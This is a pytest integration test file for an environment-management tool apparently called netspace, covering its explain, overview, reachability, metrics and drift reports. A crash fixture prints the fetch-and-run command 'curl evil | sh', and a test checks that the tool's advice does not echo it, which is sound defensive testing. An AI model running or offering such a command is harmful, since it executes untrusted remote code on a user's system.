"""``netspace.explain``, tables and metrics of a host with problems, as shown in an operator's terminal."""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from prometheus_client.openmetrics.parser import text_string_to_metric_families as openmetrics_families
from support.hosts.whole_host import IDLE, Salt, python, shop
from support.waiting import until

from netspace.fleet import seen
from netspace.host.host import Host
from netspace.layout import Layout
from netspace.link.broker import access
from netspace.plugin import tables, views

pytestmark = pytest.mark.root

CRASH = "print('\\x1b[31mrun: curl evil | sh', flush=True); raise SystemExit(3)"
USE = ("up", "oom_kills", "restarts", "memory_bytes", "cpu_seconds")
HUNGRY = "hoard = bytearray(200 << 20); signal.pause()"


@pytest.fixture(scope="module")
def host(salt: Salt, image: Path) -> Iterator[Salt]:
    """A host with environments that run, crash, need too much memory, wait, or are stopped."""
    salt("netspace.teardown")
    declared = shop(image)
    common = {**declared["environments"]["web"], "command": python(IDLE)}
    declared["environments"] |= {
        "broken": {**common, "command": python(CRASH), "restart": "always"},
        "hungry": {**common, "command": python(HUNGRY), "restart": "always"},
        "patient": {**common, "after": ["quiet"]},
        "quiet": {**common, "state": "stopped"},
    }
    salt.apply(declared)  # the broken ones fail it

    def ends_again_and_again() -> bool:
        rows = salt("netspace_environment.list")
        return rows["hungry"]["exit"] == "oom" and rows["hungry"]["flapping"] and rows["broken"]["flapping"]

    until(ends_again_and_again, pause=0.5)
    declared["environments"]["later"] = common
    salt.declare(declared)
    yield salt
    salt("netspace.teardown")


@contextlib.contextmanager
def declared(salt: Salt, declaration: dict[str, Any]) -> Iterator[None]:
    """Replace the pillar's declaration during the context."""
    before = (salt.pillar / "declared.sls").read_text()
    salt.declare(declaration)
    try:
        yield
    finally:
        (salt.pillar / "declared.sls").write_text(before)


def shown(salt: Salt, *arguments: str) -> list[str]:
    """Return the lines that are shown in a terminal without colours."""
    lines = salt.shown(*arguments).splitlines()
    assert all(len(line) <= 80 and line.isprintable() for line in lines), lines
    return lines


def explained(salt: Salt, name: str) -> dict[str, Any]:
    found: dict[str, Any] = salt("netspace.explain", name)
    lines = views.render(found, views.Screen(time.time(), tables.plain))
    assert lines is not None and len(lines) < 24
    assert all(len(line) <= 80 and line.isprintable() for line in lines), lines
    return found


def first(found: dict[str, Any]) -> tuple[str, str]:
    return found["findings"][0]["code"], found["findings"][0]["command"]


def test_explain_names_cause_and_command(host: Salt) -> None:
    broken = explained(host, "broken")
    assert first(broken) == ("failing", "netspace_environment.logs broken")
    assert broken["last_exit"] == "exit 3"
    # The log is that since the last start, and a slow machine needs a while until the program prints.
    until(lambda: any("curl evil" in line for line in explained(host, "broken")["log"]), pause=0.1)
    assert "evil" not in broken["findings"][0]["advice"]
    hungry = explained(host, "hungry")
    assert first(hungry) == ("oom", "state.apply netspace")
    assert "limits:memory is 64 MiB" in hungry["findings"][0]["text"]
    patient = explained(host, "patient")
    assert first(patient) == ("waits", "netspace.explain quiet")
    assert patient["findings"][0]["depends_on"] == "quiet" and patient["after"] == {"quiet": False}
    assert first(explained(host, "later")) == ("not-applied", "state.apply netspace")


def test_explain_tells_why_a_host_refuses(host: Salt, image: Path) -> None:
    """The image lacks the program, so an apply makes nothing of the environment; explain still gives the reason."""
    environments = {"lost": {"image": f"tar:{image}", "command": ["/usr/bin/till"], "limits": {"memory": "64M"}}}
    with declared(host, {"environments": environments}):
        lost = explained(host, "lost")
    assert first(lost) == ("impossible", "state.apply netspace")
    assert "has no /usr/bin/till; name a program that it has" in lost["findings"][0]["text"], lost


def test_explain_tells_a_declared_stop_as_declared(host: Salt) -> None:
    quiet = explained(host, "quiet")
    assert [(one["code"], one["severity"]) for one in quiet["findings"]] == [("declared-stopped", "note")]
    assert quiet["declared_state"] == "stopped"


def test_explain_shows_links_and_use_of_what_runs(host: Salt) -> None:
    web = explained(host, "web")
    assert web["summary"] == "web runs" and web["findings"] == []
    (link,) = web["links"]
    assert (link["from"], link["to"], link["state"]) == ("web", "orders", "active")
    assert 0 < web["limits"]["memory"]["used"] <= web["limits"]["memory"]["limit"] == 64 * 2**20
    assert web["limits"]["cpus"]["seconds"] > 0


def test_explain_names_what_was_changed_and_not_applied(host: Salt, image: Path) -> None:
    changed = shop(image)
    web = changed["environments"]["web"]
    web |= {"image": f"{web['image']}x", "interface": {"kind": "veth"}}
    web["limits"]["memory"] = "65M"
    changed["links"] = []
    with declared(host, changed):
        found = explained(host, "web")
    missing, waits = found["findings"]
    assert (waits["code"], waits["command"]) == ("change-waits", "state.apply netspace")
    assert waits["text"].endswith("(image, limits:memory, interface, link web.orders)")
    assert missing["code"] == "image-missing" and "did you mean" in missing["text"]
    assert found["summary"] == "web runs"


def test_explain_of_an_unknown_name_suggests_one(host: Salt) -> None:
    done = host.run("netspace.explain", "wep")
    assert done.returncode != 0
    assert "there is no environment wep; did you mean web?" in done.stderr


def test_overview_is_a_table_with_faults_first(host: Salt) -> None:
    lines = shown(host, "netspace.overview")
    names = [line.split()[0] if line else "" for line in lines]
    assert lines[0] == "local:"
    assert max(map(names.index, ("broken", "hungry", "patient"))) < min(map(names.index, ("orders", "web")))
    assert names.index("quiet") > names.index("web")
    assert any("declared stopped" in line for line in lines)
    assert any(line.split()[:4] == ["web", "orders", "request", "active"] for line in lines)
    assert shown(host, "netspace_interface.list")[1].split()[:4] == ["ENVIRONMENT", "KIND", "STATE", "ADDRESS"]
    said = shown(host, "netspace.explain", "broken")[1]
    assert re.match(r"  broken (does not run|runs): it ended \(exit 3\); restarted \d+ times", said), said


def test_results_fit_a_terminal(host: Salt, image: Path) -> None:
    """A declaration with problems of many kinds is applied and shown by each function; the output fits a terminal."""
    # The changes have a command as it was declared, however wide.
    common = {**shop(image)["environments"]["web"], "command": ["/bin/sleep", "9"]}
    wrong: dict[str, Any] = {
        "lost": {**common, "image": "tar:/srv/nowhere/an-image.tar"},
        "proud": {**common, "attestation": {"policy": "require", "minimum": "L5"}},
        "lan": {**common, "interface": {"kind": "macvlan", "parent": "none0", "ipv4": "198.51.100.7/24"}},
        "late": {**common, "after": ["quiet"]},
    }
    before = json.loads((host.pillar / "declared.sls").read_text().partition("\n")[2])["netspace"]
    with declared(host, {**before, "environments": {**before["environments"], **wrong}}):
        for arguments in (
            ("state.apply", "netspace", "test=True"),
            *(
                (f"netspace.{name}",)
                for name in ("glance", "check", "check_host", "diff", "drift", "graph", "metrics", "overview")
            ),
            *((f"netspace_environment.{name}", "hungry") for name in ("inspect", "logs")),
            ("netspace_environment.list",),
            ("netspace_interface.inspect", "orders"),
            *((f"netspace_link.{name}",) for name in ("list", "health", "dead_letters")),
            *((f"netspace_{name}.list",) for name in ("interface", "image", "volume")),
            ("netspace_attestation.status",),
        ):
            lines = host.shown(*arguments).splitlines()
            # A path or a digest stays in one piece, so that it can be copied.
            wide = [line for line in lines if len(line) > 80 and len(max(line.split(), key=len)) < 60]
            assert lines and not wide, (arguments, wide)


def test_glance_is_what_a_master_understands(host: Salt) -> None:
    told = seen.answers(["h1"], {"h1": host("netspace.glance")}, 1)["h1"]
    assert told.glance is not None, told.problem
    known = ("broken", "hungry", "later", "orders", "patient", "quiet", "web")
    marks = {name: seen.standing(name, "h1", told).mark for name in known}
    assert (marks["web"], marks["orders"], marks["quiet"]) == ("well", "well", "off")
    assert marks["broken"] == marks["hungry"] == marks["later"] == "bad"
    assert told.glance.links["web.orders"].state == "active"
    assert told.glance.problems == [] and told.glance.trust.level in ("L0", "L1")


def test_can_tells_the_rule_or_the_reason(host: Salt) -> None:
    asks = host("netspace.can", "web", "orders")
    (rule,) = asks["rules"]
    assert 0 <= time.time() - rule["since"] < 3600 and rule["since_at"], rule
    assert (asks["can"], asks["answers"]) == (True, False)
    assert [rule["rule"] for rule in asks["rules"]] == ["netspace:links:web.orders"]
    back = host("netspace.can", "orders", "web")
    assert (back["can"], back["answers"]) == (False, True)
    never = host("netspace.can", "stranger", "orders")
    assert not never["can"] and not never["through"] and never["why_not"].keys() == {"messages", "packets"}
    table = shown(host, "netspace.can", "web", "orders")
    assert table[1:3] == ["  web can reach orders", "  BY        ALLOWED  WHAT"]
    assert table[4].startswith("    netspace:links:web.orders, for ")
    assert "web" in [line.split()[0] for line in shown(host, "netspace.paths_to", "orders")]
    done = host.run("netspace.can", "web", "order")
    assert done.returncode != 0 and "there is no environment order; did you mean orders?" in done.stderr


def test_can_of_a_declaration_that_waits_is_asked_for(host: Salt) -> None:
    assert host.run("netspace.can", "later", "orders").returncode != 0
    assert not host("netspace.can", "later", "orders", "declared=True")["can"]


def test_violated_assertion_is_refused_with_its_path(host: Salt, image: Path) -> None:
    asserting = {**shop(image), "never": [{"from": "web", "to": "orders"}]}
    done = host.run("netspace.check", f"declaration={json.dumps(asserting)}", "host=False")
    (problem,) = json.loads(done.stdout)["local"]["problems"]
    assert problem["path"] == "netspace:never:0" and "netspace:links:web.orders" in problem["message"]
    assert done.returncode == 1
    with declared(host, {**asserting, "never": [{"from": "stranger", "to": "orders"}]}):
        single = ("state.single", "netspace_link.present", "stranger.orders")
        noted = host.run(*single, "test=True")
        assert "a path leads from stranger to orders" in noted.stdout
        (refused,) = json.loads(host.run(*single).stdout)["local"].values()
        assert refused["result"] is False and "netspace:links:stranger.orders" in refused["comment"]
        assert not host("netspace.can", "stranger", "orders")["can"]


def test_metrics_tell_the_same_as_the_list(host: Salt) -> None:
    text = host("netspace.metrics")
    shown_ = host.run("--out=netspace_text", "netspace.metrics").stdout
    assert shown_.startswith("# HELP netspace_version ") and shown_.endswith("# EOF\n")
    found = {one.name: one.samples for one in openmetrics_families(text)}
    states = {one.labels["environment"]: one.labels["state"] for one in found["netspace_environment_state"]}
    assert states.keys() == {"orders", "web", "stranger", "broken", "hungry", "patient", "quiet"}
    assert (states["web"], states["quiet"], states["patient"]) == ("running", "stopped", "starting")
    by = {name: {one.labels["environment"]: one.value for one in found[f"netspace_environment_{name}"]} for name in USE}
    assert by["up"]["web"] == 1 and by["up"]["quiet"] == 0
    assert by["oom_kills"]["hungry"] > 0 and by["restarts"]["broken"] > 1
    assert 0 < by["memory_bytes"]["web"] <= 64 * 2**20 and by["cpu_seconds"]["web"] > 0
    (trust,), (up,), (broker,) = (found[f"netspace_{name}"] for name in ("trust_level", "supervisor_up", "broker_up"))
    assert (trust.value, up.value, broker.value) == (int(host("netspace_attestation.status")["level"][1:]), 1, 1)
    certificates = {
        one.labels["certificate"]: one.value for one in found["netspace_certificate_expiry_timestamp_seconds"]
    }
    assert certificates.keys() == {"authority", "broker", "environments"}
    assert time.time() < certificates["environments"] < certificates["authority"]
    readers = {one.labels["environment"]: one.value for one in found["netspace_mailbox_readers"]}
    assert readers.keys() == {"orders", "web"}
    sent = {one.labels["environment"] for one in found["netspace_interface_sent_bytes"]}
    assert sent == {"orders", "stranger"}
    dropped = found["netspace_interface_dropped_packets"]
    ways = {(one.labels["environment"], one.labels["direction"]) for one in dropped if one.labels["rule"] == "none"}
    assert ways == {(name, direction) for name in sent for direction in ("out", "in")}


def test_textfile_replaces_only_its_own(host: Salt, tmp_path: Path) -> None:
    path = tmp_path / "netspace.prom"
    (tmp_path / ".netspace.prom.999999999").write_text("a killed run's")
    for _ in range(2):
        written = host("netspace.metrics", f"file={path}")
        assert written == {"file": str(path), "size": path.stat().st_size}
    assert path.stat().st_mode & 0o777 == 0o644
    assert [one.name for one in tmp_path.iterdir()] == [path.name]
    text = path.read_text()
    done = subprocess.run(["promtool", "check", "metrics"], input=text, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout + done.stderr) == (0, "")
    lines = text.splitlines()
    types = [line.split()[2] for line in lines if line.startswith("# TYPE")]
    series = [line.rpartition(" ")[0] for line in lines if not line.startswith("#")]
    assert len(set(types)) == len(types) and len(set(series)) == len(series)
    assert all(re.fullmatch(r"[a-z_]+(\{[^}]*\})? [0-9.e+-]+", line) for line in lines if not line.startswith("#")), (
        text
    )

    foreign, link = tmp_path / "other.prom", tmp_path / "link.prom"
    foreign.write_text("up 1\n")
    link.symlink_to(path)
    for wrong in (foreign, link, tmp_path / "netspace.txt", tmp_path / "absent/netspace.prom"):
        assert host.run("netspace.metrics", f"file={wrong}").returncode != 0, wrong
    assert foreign.read_text() == "up 1\n"


def test_diff_tells_what_an_apply_would_change(host: Salt) -> None:
    found = host("netspace.diff")
    rows = {(one["kind"], one["name"], one["action"]): one for one in found["differences"] if one["key"] == "image"}
    assert rows.keys() == {("environment", "later", "create")}
    assert rows["environment", "later", "create"]["new"].startswith("tar:/")
    assert any(line.split()[:3] == ["environment", "later", "create"] for line in shown(host, "netspace.diff"))


def test_drift_tells_what_was_changed_by_hand(host: Salt) -> None:
    """Drift reports an operator's manual changes. Keep this test last, because it leaves the host changed."""
    layout = Layout()
    links = Host(layout).links
    (link,) = links.recorded()
    exchange = links.called.exchange(link)
    with links.management(links.recorded_broker()) as api:
        assert api.delete("exchanges", access.vhost(layout, links.recorded_broker()), exchange)
    subprocess.run(
        ["ip", "link", "set", host("netspace_interface.list")["orders"]["host_end"], "mtu", "1400"], check=True
    )
    subprocess.run(["nft", "flush", "table", "inet", layout.nft_table], check=True)
    host("netspace_environment.stop", "stranger")

    done = host.run("netspace.drift")
    assert done.returncode == 1
    found = json.loads(done.stdout)["local"]
    rows = {(one["kind"], one["name"], one["key"]): (one["old"], one["new"]) for one in found["differences"]}
    assert rows["environment", "stranger", "state"] == ("stopped", "running")
    assert rows["interface", "host:firewall", "table"][0] == "changed by hand"
    assert rows["interface", "orders", "outside:mtu"] == (1400, 1500)
    assert rows["link", "web.orders", "exchange"] == (None, "as declared")
    assert {name for _, name, _ in rows} == {"stranger", "host:firewall", "orders", "web.orders"}
    assert not [one for one in found["refused"] if one["name"] not in ("broken", "hungry", "patient")]
    lines = views.render(found, views.Screen(time.time(), tables.plain))
    assert lines is not None and all(len(line) <= 80 and line.isprintable() for line in lines), lines

    # A damaged record hides only its own kind.
    record = layout.records("interfaces") / "orders.json"
    good = record.read_bytes()
    record.write_bytes(good[:-9])
    damaged = json.loads(host.run("netspace.drift").stdout)["local"]
    record.write_bytes(good)
    (refused,) = (one for one in damaged["refused"] if one["kind"] == "interface")
    assert str(record) in refused["message"]
    assert {one["kind"] for one in damaged["differences"]} == {"link", "environment"}
